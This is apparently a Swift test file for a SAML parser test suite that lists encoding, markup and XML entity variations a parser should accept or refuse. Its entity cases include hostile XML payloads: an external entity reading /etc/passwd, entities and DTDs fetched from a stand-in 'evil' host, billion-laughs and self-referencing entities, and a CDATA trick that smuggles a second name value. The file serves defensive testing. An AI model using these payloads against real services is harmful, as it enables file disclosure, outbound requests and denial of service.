import SAMLVectors
import TestSupport

extension Family {
  /// What parsers read in different ways, or must refuse.
  static var parser: [Variation] {
    encodings + markup + entities
  }

  private static func variation(
    _ name: String, _ description: String, _ answer: SAMLVectors.Answer,
    _ after: [(String, String)], spec: String = "XML 1.0 §2.1",
    risk: SAMLVectors.Risk? = nil, forbidden: [String] = []
  ) -> Variation {
    Variation(
      name: name, description: description, spec: spec, answer: answer, risk: risk, after: after,
      forbidden: forbidden)
  }

  private static func encoded(
    _ name: String, _ description: String, _ answer: SAMLVectors.Answer,
    _ transport: @escaping @Sendable ([UInt8]) throws -> [UInt8]
  ) -> Variation {
    Variation(
      name: name, description: description, spec: "XML 1.0 §4.3.3", answer: answer,
      transport: transport)
  }

  private static var encodings: [Variation] {
    @Sendable func utf16(_ bytes: [UInt8], isLittle: Bool, hasMark: Bool) -> [UInt8] {
      let units = (hasMark ? [0xFEFF] : []) + String(decoding: bytes, as: UTF8.self).utf16
      return units.flatMap { unit in
        let pair = [UInt8(unit >> 8), UInt8(unit & 0xFF)]
        return isLittle ? pair.reversed() : pair
      }
    }
    @Sendable func replacing(_ bytes: [UInt8], by others: [UInt8]) -> [UInt8] {
      guard let range = bytes.firstRange(of: Array("household-1".utf8)) else { return bytes }
      return Array(bytes[..<range.lowerBound]) + others + bytes[range.upperBound...]
    }
    return [
      encoded("byte order mark", "A byte order mark of UTF-8 stands in front.", .accept) {
        [0xEF, 0xBB, 0xBF] + $0
      },
      encoded("two byte order marks", "Two byte order marks stand in front.", .reject) {
        [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF] + $0
      },
      encoded("UTF-16 little-endian", "The document is in UTF-16 with a mark.", .accept) {
        utf16($0, isLittle: true, hasMark: true)
      },
      encoded("UTF-16 big-endian", "The document is in UTF-16 with a mark.", .accept) {
        utf16($0, isLittle: false, hasMark: true)
      },
      encoded("UTF-16 without a mark", "The document is in UTF-16 and does not say so.", .either) {
        utf16($0, isLittle: true, hasMark: false)
      },
      encoded("invalid UTF-8", "A value holds a byte that UTF-8 does not have.", .reject) {
        replacing($0, by: [0x68, 0xFF, 0x31])
      },
      encoded("overlong UTF-8", "A letter is written in two bytes.", .reject) {
        replacing($0, by: [0xC1, 0xA8, 0x31])
      },
      encoded("surrogate in UTF-8", "A surrogate is written in three bytes.", .reject) {
        replacing($0, by: [0xED, 0xA0, 0x80])
      },
      encoded("byte 0", "A value holds a zero byte.", .reject) {
        replacing($0, by: [0x68, 0x00, 0x31])
      },
      encoded("control character", "A value holds the byte 1.", .reject) {
        replacing($0, by: [0x68, 0x01, 0x31])
      },
      encoded("nothing", "There are no bytes.", .reject) { _ in [] },
      encoded("white space alone", "There is nothing but white space.", .reject) { _ in
        Array(" \n".utf8)
      },
      encoded("cut off in a tag", "The document ends in a tag.", .reject) {
        Array($0.dropLast(5))
      },
      encoded("line ends of Windows", "Each line ends with two characters.", .accept) {
        Array(String(decoding: $0, as: UTF8.self).replacing("\n", with: "\r\n").utf8)
      },
      encoded("line ends of old systems", "Each line ends with a carriage return.", .accept) {
        Array(String(decoding: $0, as: UTF8.self).replacing("\n", with: "\r").utf8)
      },
    ]
  }

  private static var markup: [Variation] {
    let root = "<samlp:Response "
    let end = "</samlp:Response>"
    return [
      variation(
        "declaration of an unknown encoding", "The declaration names an encoding that nobody has.",
        .reject, [(root, "<?xml version=\"1.0\" encoding=\"x-none\"?>\(root)")]),
      variation(
        "declaration of UTF-16 in UTF-8", "The declaration names another encoding.", .either,
        [(root, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\(root)")]),
      variation(
        "declaration behind a blank", "A blank stands in front of the declaration.", .reject,
        [(root, " <?xml version=\"1.0\"?>\(root)")]),
      variation(
        "declaration of XML 1.1", "The declaration names XML 1.1.", .either,
        [(root, "<?xml version=\"1.1\"?>\(root)")]),
      variation("two roots", "A second root follows.", .reject, [(end, "\(end)<x/>")]),
      variation("text behind the root", "Text follows the root.", .reject, [(end, "\(end)x")]),
      variation("text before the root", "Text stands in front.", .reject, [(root, "x\(root)")]),
      variation(
        "end tag of another element", "A start tag and its end tag differ.", .reject,
        [("</saml:NameID>", "</saml:NameId>")]),
      variation(
        "attribute twice", "A tag has an attribute twice.", .reject,
        [("ID=\"_a1\" ", "ID=\"_a1\" ID=\"_a1\" ")]),
      variation(
        "attribute twice by two prefixes",
        "Two prefixes of one namespace make one attribute twice.",
        .reject,
        [
          (
            "<saml:AttributeValue>",
            "<saml:AttributeValue xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:y=\"1\" b:y=\"2\">"
          )
        ], spec: "Namespaces in XML §6.3"),
      variation(
        "prefix not declared", "An element has a prefix that nobody declares.", .reject,
        [("<samlp:Status>", "<samlp:Status><q:x/>")], spec: "Namespaces in XML §5"),
      variation(
        "prefix declared as nothing", "A prefix is declared as the empty namespace.", .reject,
        [("<samlp:Status>", "<samlp:Status xmlns:q=\"\">")], spec: "Namespaces in XML §5"),
      variation(
        "prefix xmlns declared", "The prefix xmlns is declared.", .reject,
        [("<samlp:Status>", "<samlp:Status xmlns:xmlns=\"urn:x\">")],
        spec: "Namespaces in XML §3"),
      variation(
        "two colons in a name", "A name has two colons.", .reject,
        [("<samlp:Status>", "<samlp:Status><samlp:a:b/>")], spec: "Namespaces in XML §4"),
      variation(
        "ampersand alone", "An ampersand begins no reference.", .reject,
        [(">household-1<", ">household&1<")]),
      variation(
        "less-than sign in an attribute", "An attribute holds a less-than sign.", .reject,
        [("Name=\"householdID\"", "Name=\"household<ID\"")]),
      variation(
        "reference to character 0", "A reference names a character that XML does not have.",
        .reject, [(">household-1<", ">household-1&#0;<")]),
      variation(
        "reference to a surrogate", "A reference names half a character.", .reject,
        [(">household-1<", ">household-1&#xD800;<")]),
      variation(
        "reference beyond Unicode", "A reference names no character.", .reject,
        [(">household-1<", ">household-1&#x110000;<")]),
      variation(
        "end of CDATA in text", "The end of a CDATA section stands in text.", .reject,
        [(">household-1<", ">household-1]]><")]),
      variation(
        "two hyphens in a comment", "A comment holds two hyphens.", .reject,
        [("<samlp:Status>", "<!-- a -- b --><samlp:Status>")]),
      variation(
        "comment before the root", "A comment stands in front.", .accept,
        [(root, "<!-- a -->\(root)")]),
      variation(
        "instruction before the root", "A processing instruction stands in front.", .either,
        [(root, "<?a b?>\(root)")]),
      variation(
        "instruction xml inside", "A declaration stands inside the document.", .reject,
        [("<samlp:Status>", "<?xml version=\"1.0\"?><samlp:Status>")]),
      variation(
        "CDATA in the name", "The name is a CDATA section.", .either,
        [(">subject-1<", "><![CDATA[subject-1]]><")]),
      variation(
        "CDATA with a comment in the name", "A CDATA section hides a comment in the name.", .reject,
        [(">subject-1<", "><![CDATA[subject-evil<!--]]>subject-1<")],
        forbidden: ["subject-evil", "subject-evil<!--"]),
    ]
  }

  private static var entities: [Variation] {
    func doctype(
      _ name: String, _ description: String, _ subset: String, value: String = "household-1",
      _ answer: SAMLVectors.Answer = .reject, risk: SAMLVectors.Risk, forbidden: [String] = []
    ) -> Variation {
      variation(
        name, description, answer,
        [
          ("<samlp:Response ", "<!DOCTYPE samlp:Response \(subset)><samlp:Response "),
          (">household-1<", ">\(value)<"),
        ], spec: "XML 1.0 §4.4", risk: risk, forbidden: forbidden)
    }
    let laughs = (1...9).map { number in
      "<!ENTITY l\(number) \"\(String(repeating: "&l\(number - 1);", count: 10))\">"
    }.joined()
    return [
      doctype(
        "entity that hides a value", "An entity stands for a part of the value.",
        "[<!ENTITY e \"household-1\">]", value: "&e;", .either,
        risk: .confusion),
      doctype(
        "entity of a file", "An entity stands for a file of the receiver.",
        "[<!ENTITY e SYSTEM \"file:///etc/passwd\">]", value: "&e;", risk: .disclosure,
        forbidden: ["root:x:0:0"]),
      doctype(
        "entity of a URL", "An entity stands for a page of a network.",
        "[<!ENTITY e SYSTEM \"http://192.0.2.1/evil\">]", value: "&e;", risk: .disclosure),
      doctype(
        "parameter entity of a URL", "The document type is completed by a page of a network.",
        "[<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\"> %p;]", .either, risk: .disclosure),
      doctype(
        "document type of a URL", "The document type is a page of a network.",
        "SYSTEM \"http://192.0.2.1/evil.dtd\"", .either, risk: .disclosure),
      doctype(
        "entities that multiply", "Nine entities stand for ten of the one before (billion laughs).",
        "[<!ENTITY l0 \"ha\">\(laughs)]", value: "&l9;", risk: .availability),
      doctype(
        "entity of itself", "An entity stands for itself.", "[<!ENTITY e \"&e;\">]", value: "&e;",
        risk: .availability),
      doctype(
        "attribute by default", "The document type gives an attribute by default.",
        "[<!ATTLIST saml:NameID Format CDATA \"urn:evil\">]", .either, risk: .confusion),
      doctype(
        "ID by declaration", "The document type makes another attribute an ID.",
        "[<!ATTLIST saml:Attribute Name ID #IMPLIED>]", .either, risk: .acceptance),
    ]
  }
}
